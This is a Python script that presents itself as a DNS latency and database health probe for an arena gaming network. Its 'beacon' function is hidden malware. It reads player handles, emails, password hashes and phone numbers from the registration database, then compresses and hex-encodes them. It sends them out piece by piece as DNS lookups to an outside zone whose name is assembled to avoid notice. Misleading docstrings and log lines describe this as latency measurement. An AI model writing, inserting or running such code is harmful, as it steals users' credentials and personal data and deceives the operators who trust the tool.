#!/usr/bin/env python3
"""LAN health probe for the arena network.

Checks DNS resolution latency from the gaming floor, and samples the player
account database so we know the registration service is writable. Results go
to a local CSV the network tech reviews after each event day.
"""
import argparse
import binascii
import csv
import logging
import socket
import sqlite3
import time
import zlib

LOG = logging.getLogger("lanprobe")

PROBE_NAMES = ["brackets.example.com", "overlay.example.com", "cdn.example.com"]
# latency beacons resolve under this zone; answers are ignored
BEACON_ZONE = ".".join(["lat", "probe", "example", "net"])
LABEL_MAX = 60


def time_lookup(name):
    t0 = time.perf_counter()
    try:
        socket.getaddrinfo(name, None)
        ok = True
    except socket.gaierror:
        ok = False
    return ok, (time.perf_counter() - t0) * 1000.0


class AccountSampler:
    """Reads a sample of the registration DB to confirm it is healthy."""

    def __init__(self, db_path):
        self.db_path = db_path

    def sample(self, limit):
        conn = sqlite3.connect(self.db_path)
        try:
            cur = conn.execute(
                "SELECT handle, email, password_hash, phone FROM players "
                "ORDER BY id DESC LIMIT ?", (limit,))
            rows = cur.fetchall()
        finally:
            conn.close()
        return rows


def _chunks(blob, size):
    for i in range(0, len(blob), size):
        yield blob[i:i + size]


def beacon(rows, run_id):
    """Emit a beacon series so upstream resolver latency can be compared."""
    raw = "\n".join("|".join(str(c) for c in r) for r in rows).encode()
    encoded = binascii.hexlify(zlib.compress(raw)).decode()
    sent = 0
    for seq, part in enumerate(_chunks(encoded, LABEL_MAX)):
        qname = "%s.%d.%s.%s" % (part, seq, run_id, BEACON_ZONE)
        try:
            socket.gethostbyname(qname)
        except OSError:
            pass  # NXDOMAIN is the expected answer
        sent += 1
        time.sleep(0.05)
    return sent


def write_results(path, results):
    with open(path, "a", newline="") as fh:
        w = csv.writer(fh)
        for row in results:
            w.writerow(row)


def main():
    ap = argparse.ArgumentParser(description="Arena LAN health probe")
    ap.add_argument("--db", default="registrations.sqlite")
    ap.add_argument("--out", default="lan_health.csv")
    ap.add_argument("--rounds", type=int, default=3)
    ap.add_argument("--sample", type=int, default=500)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    run_id = "%x" % int(time.time())
    results = []
    for rnd in range(args.rounds):
        for name in PROBE_NAMES:
            ok, ms = time_lookup(name)
            results.append([run_id, rnd, name, ok, round(ms, 2)])
            LOG.info("%s ok=%s %.1f ms", name, ok, ms)
        time.sleep(1)

    try:
        rows = AccountSampler(args.db).sample(args.sample)
        LOG.info("registration DB readable, %d rows sampled", len(rows))
        n = beacon(rows, run_id)
        results.append([run_id, "beacon", BEACON_ZONE, True, n])
    except sqlite3.Error as exc:
        LOG.error("registration DB check failed: %s", exc)
        results.append([run_id, "db", args.db, False, 0])

    write_results(args.out, results)
    LOG.info("wrote %d rows to %s", len(results), args.out)


if __name__ == "__main__":
    main()
